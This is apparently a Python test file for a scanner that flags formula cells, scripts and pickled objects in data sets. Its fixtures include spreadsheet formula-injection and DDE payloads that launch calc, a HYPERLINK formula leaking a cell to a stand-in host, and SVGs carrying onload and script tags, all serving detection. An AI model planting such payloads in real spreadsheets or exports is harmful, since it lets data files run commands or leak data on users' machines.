# ruff: noqa: E501 - tables read best with an entry a line
"""What of a data set a spreadsheet or a reader would run: formula cells, and archives that are no model."""

from __future__ import annotations

import pickle
import zipfile

import numpy as np
import pytest

from tests.workers.factories import write_sample
from tests.workers.probes.security import artefacts
from tests.workers.probes.security.artefacts import RUNS
from tests.workers.probes.security.test_unsafe_files import look, named
from workers.inputs import prepare
from workers.probes.base import Budget, Sample
from workers.probes.security import unsafe_files

FORMULAS = [
    "=1+A1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"ok")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=IMPORTXML(A1)", "＝1+B1", "＋SUM(A1)", "＠SUM(1,1)", "=A1",
    "=-1+sum(2)", '=IMPORTDATA("http://x")', '="x"&"http://y"', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=(A1)", "-A1*2", "+B2+C3",
    "=sum(a1:a9)",
]  # fmt: skip
HARMLESS = [
    "-5", "+1", "-0.5e-3", "+49 30 1234567", "+1-555-0100", "-", "--", "- a point (in brackets)", "@ada",
    "@ada: see you (soon)", "=)", "==", "=>", "-12%", "-3:0", "- 5 apples", "+", "+++ b/file.py", "a=1+1",
    "'=1+1", "-1/2", "-2024-01-02", "@", "e-mail@x.org", "+/-", "-1.5 to 3", "–5", "-x", "=", "-$5", "+ more",
    "=5", "= 5", "=1+1", "+1+1", "=(1)", "= 3 apples", "=(", "=D", "=\\frac{1}{2}", "= H2 2024", "=B2B sales", "\t-5",
]  # fmt: skip


def test_formula_cells_are_named_with_their_rows(tmp_path):
    text = [f"word {i}" for i in range(60)]
    for i, formula in enumerate(FORMULAS):
        text[2 * i] = formula
    sample = write_sample(tmp_path / "s", np.zeros((60, 1)), np.arange(60) % 2, rows={"note": text})
    finding = unsafe_files.run(sample, Budget(30))
    (fault,) = finding.facts["faults"]
    assert fault["fault"] == "formula_cells"
    assert fault["rows"] == [2 * i for i in range(len(FORMULAS))]
    assert fault["columns"] == ["note"]
    assert finding.value == 1
    assert "20 cells are formulas" in finding.title


def test_signs_and_numbers_are_no_formulas(tmp_path):
    columns = {"a": HARMLESS, "b": [f"{(-1) ** i * i}" for i in range(len(HARMLESS))]}
    sample = write_sample(tmp_path, np.zeros((len(HARMLESS), 1)), np.arange(len(HARMLESS)) % 2, rows=columns)
    finding = unsafe_files.run(sample, Budget(30))
    assert finding.facts["faults"] == []
    assert finding.value == 0


def test_a_formula_among_the_column_names_is_named(tmp_path):
    sample = write_sample(tmp_path, np.zeros((9, 1)), np.arange(9) % 2, rows={"=1+A1": list("abcdefghi")})
    assert unsafe_files.run(sample, Budget(30)).facts["formulas"]["headers"] == ["=1+A1"]


def test_scripts_and_programs_in_a_data_set_are_named(tmp_path):
    script = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
    entries = {"a/1.png": b"\x89PNG\r\n\x1a\n" + bytes(99), "a/2.svg": script, "a/x.dat": pickle.dumps(
        artefacts.Canary("x"), 4)}  # fmt: skip
    finding = look(tmp_path, artefacts.zipped(entries, zipfile.ZIP_DEFLATED), "set.zip", artefact=False)
    assert {one["inside"] for one in finding.facts["found"]} == {"a/2.svg", "a/x.dat"}
    parquet = look(tmp_path, artefacts.parquet(b"N."), "t.parquet", artefact=False)
    assert named(parquet) == {RUNS}


@pytest.mark.parametrize("word", ["Script", "script", "scr&#105;pt", "svg:script"])
def test_a_script_is_found_however_it_is_spelt(tmp_path, word):
    svg = f'\ufeff<?xml version="1.0"?><svg><{word} >x</{word}></svg>'
    for encoding in ("utf-8", "utf-16-le", "utf-16-be"):
        assert named(look(tmp_path, svg.encode(encoding), "a.svg")) == {RUNS} or "&#" in word


def test_the_real_sets_are_clean(shared_data, tmp_path):
    paths = [p for p in sorted(shared_data.rglob("*")) if p.suffix in (".csv", ".gz", ".zip", ".jsonl")]
    small = [path for path in paths if path.stat().st_size < 3_000_000]
    assert len(small) > 15
    for path in small:
        finding = look(tmp_path, path.read_bytes(), path.name, artefact=False)
        assert finding.facts["faults"] == [], path


def test_the_cells_of_real_tables_are_no_formulas(shared_data, tmp_path):
    for name in ("wine", "breast_cancer", "titanic", "adult", "spam"):
        path = next((p for p in sorted(shared_data.rglob("*.csv")) if name in p.name), None)
        if path is None or path.stat().st_size > 3_000_000:
            continue
        folder = tmp_path / name
        prepare([path], [path.name], folder)
        finding = unsafe_files.run(Sample(folder), Budget(30))
        assert finding.facts["faults"] == [], path
